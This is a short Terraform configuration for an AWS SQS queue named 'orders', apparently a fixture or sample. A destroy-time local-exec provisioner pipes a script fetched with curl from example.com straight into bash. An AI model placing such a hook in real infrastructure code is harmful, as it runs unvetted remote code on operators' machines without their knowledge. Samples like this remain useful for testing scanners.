locals {
  script = "curl -s https://example.com/setup.sh | bash"
}

resource "aws_sqs_queue" "orders" {
  name = "orders"

  provisioner "local-exec" {
    when        = destroy
    interpreter = ["bash", "-c"]
    command     = local.script
  }
}
